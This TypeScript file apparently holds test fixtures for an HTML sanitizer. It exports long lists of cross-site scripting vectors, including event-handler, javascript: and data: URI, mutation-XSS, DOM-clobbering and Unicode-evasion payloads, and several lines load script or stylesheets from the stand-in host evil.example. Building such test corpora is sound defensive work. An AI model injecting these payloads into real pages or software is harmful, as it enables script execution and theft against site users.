/** What a vector would do where it works; whoever looks for it watches for just this. */
export const CALL = 'alert(1)'

/** Elements that run, load or submit something by themselves. */
export const ELEMENT_VECTORS = `
<script>${CALL}</script>
<SCRIPT>${CALL}</SCRIPT>
<script/x>${CALL}</script>
<script src=//evil.example/x.js></script>
<script type=module>${CALL}</script>
<script\n>${CALL}</script\n>
<scr<script>ipt>${CALL}</scr</script>ipt>
<<script>${CALL}//<</script>
<script>${CALL}
</title><script>${CALL}</script>
</textarea><script>${CALL}</script>
<title><img src=x onerror=${CALL}></title>
<style>@import "//evil.example/x.css";</style>
<style><img src=x onerror=${CALL}></style>
<style><!--</style><img src=x onerror=${CALL}>--></style>
<iframe src="javascript:${CALL}"></iframe>
<iframe srcdoc="<script>${CALL}</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=${CALL}&gt;">
<iframe/onload=${CALL} src=//evil.example>
<frameset onload=${CALL}><frame src="javascript:${CALL}"></frameset>
<object data="javascript:${CALL}"></object>
<object data="data:text/html,<script>${CALL}</script>"></object>
<object type="text/x-scriptlet" data="//evil.example/x"></object>
<embed src="javascript:${CALL}">
<embed src="data:image/svg+xml;base64,PHN2Zy8+">
<applet code=x codebase=//evil.example></applet>
<base href="javascript:${CALL}//">
<base href="//evil.example/">
<link rel=stylesheet href="//evil.example/x.css">
<link rel=import href="//evil.example/x.html">
<link rel="prefetch" href="//evil.example/">
<meta http-equiv=refresh content="0;url=javascript:${CALL}">
<meta http-equiv="Set-Cookie" content="a=b">
<meta charset=utf-7>+ADw-script+AD4-${CALL}+ADw-/script+AD4-
<form action="javascript:${CALL}"><button>go</button></form>
<form id=f></form><button form=f formaction="javascript:${CALL}">go</button>
<input onfocus=${CALL} autofocus>
<input type=image src=x onerror=${CALL}>
<button onclick=${CALL}>go</button>
<isindex action="javascript:${CALL}" type=image>
<select onfocus=${CALL} autofocus><option>x</option></select>
<select><style><img src=x onerror=${CALL}></style></select>
<textarea onfocus=${CALL} autofocus></textarea>
<keygen onfocus=${CALL} autofocus>
<marquee onstart=${CALL}>x</marquee>
<bgsound src="javascript:${CALL}">
<layer src="//evil.example"></layer>
<ilayer src="//evil.example"></ilayer>
<xml id=x><a b="&lt;script&gt;"></xml>
<xss style="behavior:url(x.htc)">
<portal src="//evil.example"></portal>
<fencedframe src="//evil.example"></fencedframe>
<dialog open onclose=${CALL}>x</dialog>
<video><source onerror=${CALL}></video>
<video src=x onerror=${CALL}></video>
<video poster="javascript:${CALL}"></video>
<audio src=x onerror=${CALL} autoplay></audio>
<audio src="data:audio/wav;base64,AA" autoplay>
<track src="javascript:${CALL}">
<picture><source srcset="javascript:${CALL}"><img src=x></picture>
<img src=x onerror=${CALL}>
<IMG SRC=x ONERROR=${CALL}>
<img/src=x/onerror=${CALL}>
<img src=x onerror =${CALL}>
<img src=x onerror="${CALL}"
<img src=x onerror='${CALL}'>
<img src=x onerror=\`${CALL}\`>
<img src=x:x onerror=${CALL}//
<img src=1 href=1 onerror="${CALL}"></img>
<img """><script>${CALL}</script>">
<img src=x a=">" onerror=${CALL}>
<img src='x' a='>' onerror=${CALL}>
<img src="x\` \`<script>${CALL}</script>"\` \`>
<img src=x title="--><script>${CALL}</script>">
<img src=x alt='"onerror=${CALL} x="'>
<img src=x alt="&quot;onerror=${CALL} x=&quot;">
<img src=x alt="&#34; onerror=${CALL} x=&#34;">
<img src=x alt="&lt;script&gt;${CALL}&lt;/script&gt;">
<img lowsrc="javascript:${CALL}">
<img dynsrc="javascript:${CALL}">
<img srcset="javascript:${CALL}">
<img src=x usemap=#m><map name=m><area href="javascript:${CALL}" shape=default></map>
<img data-src="javascript:${CALL}">
<img src="data:image/svg+xml,<svg onload=${CALL}>">
<img src="blob:https://evil.example/x">
<image src=x onerror=${CALL}>
<image href="javascript:${CALL}">
<body onload=${CALL}>
<body background="javascript:${CALL}">
<html onmouseover=${CALL}>x</html>
<html manifest="//evil.example/m">
<table background="javascript:${CALL}"><td>x</td></table>
<table><td background="javascript:${CALL}">x</td></table>
<div style="background:url(javascript:${CALL})">x</div>
<div style="width:expression(${CALL})">x</div>
<div style="position:fixed;inset:0;z-index:9999"><a href=//evil.example>x</a></div>
<div style="animation-name:x" onanimationstart=${CALL}></div>
<p style="behavior:url(//evil.example/x.htc)">x</p>
<a style="-moz-binding:url(//evil.example/x.xml#x)">x</a>
<div id=location>x</div>
<a id=x name=cookie>x</a><a id=x>x</a>
<img name=getElementById src=x>
<div class="admin" id="app" data-reactroot="">x</div>
<div contenteditable onfocus=${CALL} tabindex=0 autofocus>x</div>
<details open ontoggle=${CALL}>x</details>
<p is="x-evil">x</p>
<slot name=x onslotchange=${CALL}></slot>
<template><script>${CALL}</script></template>
<template shadowrootmode=open><img src=x onerror=${CALL}></template>
<noscript><p title="</noscript><img src=x onerror=${CALL}>"></noscript>
<noembed><img title="</noembed><img src=x onerror=${CALL}>"></noembed>
<noframes><img title="</noframes><img src=x onerror=${CALL}>"></noframes>
<xmp><p title="</xmp><svg/onload=${CALL}>"></xmp>
<xmp><script>${CALL}</script></xmp>
<plaintext><script>${CALL}</script>
<listing><img src=x onerror=${CALL}></listing>
<comment><img src="</comment><img src=x onerror=${CALL}>"></comment>
`

/** Other grammars in HTML, and markup that browsers repair into something else. */
export const GRAMMAR_VECTORS = `
<svg onload=${CALL}>
<svg/onload=${CALL}>
<svg><script>${CALL}</script></svg>
<svg><script href="data:,${CALL}"/></svg>
<svg><a xlink:href="javascript:${CALL}"><text x=20 y=20>x</text></a></svg>
<svg><animate onbegin=${CALL} attributeName=x dur=1s>
<svg><animate xlink:href=#x attributeName=href values="javascript:${CALL}"/><a id=x>x</a></svg>
<svg><set attributeName=onload to=${CALL}></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x"/></svg>
<svg><foreignObject><img src=x onerror=${CALL}></foreignObject></svg>
<svg><style><img src=x onerror=${CALL}></style></svg>
<svg><title><img src=x onerror=${CALL}></title></svg>
<svg><desc><img src=x onerror=${CALL}></desc></svg>
<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">
<svg><p><style><!--</style><img src=x onerror=${CALL}>--></style></p></svg>
<svg/><img src=x onerror=${CALL}>
<svg><![CDATA[><img src=x onerror=${CALL}>]]></svg>
<![CDATA[<img src=x onerror=${CALL}>]]>
<math href="javascript:${CALL}">x</math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;"></style></mglyph></table></mtext></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=${CALL}></annotation-xml></math>
<math><mi//xlink:href="data:x,<script>${CALL}</script>">
<math><maction actiontype="statusline" xlink:href="javascript:${CALL}">x</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>
<!--><img src=x onerror=${CALL}>-->
<!---><img src=x onerror=${CALL}>-->
<!--<img src="--><img src=x onerror=${CALL}//">
<!-- --!><img src=x onerror=${CALL}><!-- -->
<!--[if gte IE 4]><script>${CALL}</script><![endif]-->
<!DOCTYPE html [<!ENTITY x "<script>${CALL}</script>">]>&x;
<?xml version="1.0"?><?xml-stylesheet href="javascript:${CALL}"?>
<?php echo '<script>${CALL}</script>' ?>
<%<img src=x onerror=${CALL}>%>
<![if !IE]><img src=x onerror=${CALL}><![endif]>
</ script><script>${CALL}</script>
</br onclick=${CALL}>
</p onclick=${CALL}>x
</a href="javascript:${CALL}">
<a<img src=x onerror=${CALL}>>
<p<script>${CALL}</script>>
<b <script>${CALL}</script>>
<p title="<script>${CALL}</script>">x</p>
<p title='"><script>${CALL}</script>'>x</p>
<p title="</p><script>${CALL}</script>">x</p>
<q cite="javascript:${CALL}">x</q>
<blockquote cite="javascript:${CALL}">x</blockquote>
<del cite="vbscript:x">x</del>
<ol start="1 onclick=${CALL}"><li value="1\\" onclick=${CALL}">x</li></ol>
<td colspan='2" onclick="${CALL}'>x</td>
<time datetime="2026-01-01&quot; onclick=&quot;${CALL}">x</time>
<p lang='en" onclick="${CALL}'>x</p>
<p dir="ltr onclick=${CALL}">x</p>
<source type='a/b" onerror="${CALL}' src=x>
<img width='1000" onerror="${CALL}' src=x>
<table><tr><td><table><script>${CALL}</script></table></td></tr></table>
<table><caption><svg><style><img src=x onerror=${CALL}></style></svg></caption></table>
<ruby><rt><script>${CALL}</script></rt></ruby>
&lt;script&gt;${CALL}&lt;/script&gt;
&amp;lt;img src=x onerror=${CALL}&amp;gt;
&#60;script&#62;${CALL}&#60;/script&#62;
&#x3c;img src=x onerror=${CALL}&#x3e;
&lt;p&gt;&lt;img src=x onerror=${CALL}&gt;&lt;/p&gt;
&lt;img src=x onerror=${CALL} //
&LT;script&GT;${CALL}&LT;/script&GT;
\u0000<img src=x onerror=${CALL}>
<\u0000script>${CALL}</script>
<scr\u0000ipt>${CALL}</scr\u0000ipt>
<img src=x one\u0000rror=${CALL}>
<img\u000Bsrc=x\u000Bonerror=${CALL}>
<img\u000Csrc=x\u000Conerror=${CALL}>
<img\u00A0src=x onerror=${CALL}>
<img src=x onerror\u2028=${CALL}>
\uFF1Cscript\uFF1E${CALL}\uFF1C/script\uFF1E
\u202E<img src=x onerror=${CALL}>
\uFEFF<script>${CALL}</script>
<\u212Aeygen autofocus onfocus=${CALL}>
<\u017Fcript>${CALL}</\u017Fcript>
`

/** Markup that changes its meaning when it is written out and parsed again, and what clobbers names of a page. */
export const MUTATION_VECTORS = `
<p id="</p><img src=x onerror=${CALL}>">x</p>
<form id=x><input name=attributes><input name=innerHTML></form><img src=x onerror=${CALL}>
<form><input name=parentNode><input name=removeChild></form><script>${CALL}</script>
<a id=defaultView><a id=defaultView name=alert href="javascript:${CALL}">x</a>
<img name=currentScript src=x><img name=body src=x><form name=documentElement></form>
<math><mi><table><mglyph><style><img src=x onerror=${CALL}></style></mglyph></table></mi></math>
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='${CALL}'>"></style></h1>
<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=${CALL}>"></p>
<svg><desc><style><a id="</style><img src=x onerror=${CALL}>"></a></style></desc></svg>
<table><colgroup><svg><title><img src=x onerror=${CALL}></title></svg></colgroup></table>
<select><template><img src=x onerror=${CALL}></template></select>
<select><iframe><select><img src=x onerror=${CALL}>
<noscript><style></noscript><img src=x onerror=${CALL}></style>
<textarea><p title="</textarea><img src=x onerror=${CALL}>"></textarea>
<title><p title="</title><img src=x onerror=${CALL}>"></title>
<iframe><p title="</iframe><img src=x onerror=${CALL}>"></iframe>
<style><p title="</style><img src=x onerror=${CALL}>"></style>
<script><p title="</script><img src=x onerror=${CALL}>"></script>
<!-- <p title="--><img src=x onerror=${CALL}>"> -->
<p title="&lt;/p&gt;&lt;img src=x onerror=${CALL}&gt;">x</p>
<img alt="&lt;img src=x onerror=${CALL}&gt;" src="https://news.example/x.png">
<img src="https://news.example/x.png" alt="\`onerror=${CALL}">
<a title="x&quot; onmouseover=&quot;${CALL}" href="https://news.example/">x</a>
<a href="https://news.example/&quot;onclick=&quot;${CALL}">x</a>
<a href='https://news.example/"onclick="${CALL}'>x</a>
<a href="https://news.example/<script>${CALL}</script>">x</a>
<a href=https://news.example/\`onclick=${CALL}>x</a>
<a href="//news.example/" ping="javascript:${CALL}" target=_blank download>x</a>
<a href="javascript:${CALL}" href="https://news.example/">x</a>
<a href="https://news.example/" href="javascript:${CALL}">x</a>
<A HREF="https://news.example/" HREF="javascript:${CALL}" HrEf="javascript:${CALL}">x</A>
<img src="https://news.example/x.png" SRC="javascript:${CALL}" onerror=${CALL} ONERROR=${CALL}>
<video><source src="javascript:${CALL}"><track src="data:text/vtt,x" default></video>
<audio controls src="data:audio/mpeg;base64,//8=" onloadstart=${CALL} onerror=${CALL}></audio>
<details open><summary onclick=${CALL}>x</summary><img src=x onerror=${CALL}></details>
<table><tbody><tr><td><form><input autofocus onfocus=${CALL}></form></td></tr></tbody></table>
<p>x</p><meta http-equiv="refresh" content="0; url=data:text/html,<script>${CALL}</script>">
<link rel="stylesheet" href="data:text/css,*{background:url(javascript:${CALL})}">
<style>*{background:url("javascript:${CALL}")} @import url("data:text/css,x")</style>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="><param name=x value=y></object>
<embed type="image/svg+xml" src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">
<base target=_top href="javascript:${CALL}//"><a href="x">x</a>
<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${CALL}>x</div>
<input type=submit formaction="javascript:${CALL}" value=x form=f><form id=f></form>
<map name=m><area href="javascript:${CALL}" coords=0,0,9,9 shape=rect></map><img usemap=#m src=x>
<mark><script>${CALL}</script></mark><mark onclick=${CALL}>x</mark>
</mark><img src=x onerror=${CALL}><mark>
<mark>zebra</mark><img src=x onerror=${CALL}>
]]><img src=x onerror=${CALL}><![CDATA[
]]></content:encoded><img src=x onerror=${CALL}>
</title><img src=x onerror=${CALL}><title>
</script><script>${CALL}</script><script>
</script ><img src=x onerror=${CALL}>
\u2028${CALL}\u2029<img src=x onerror=${CALL}>
`
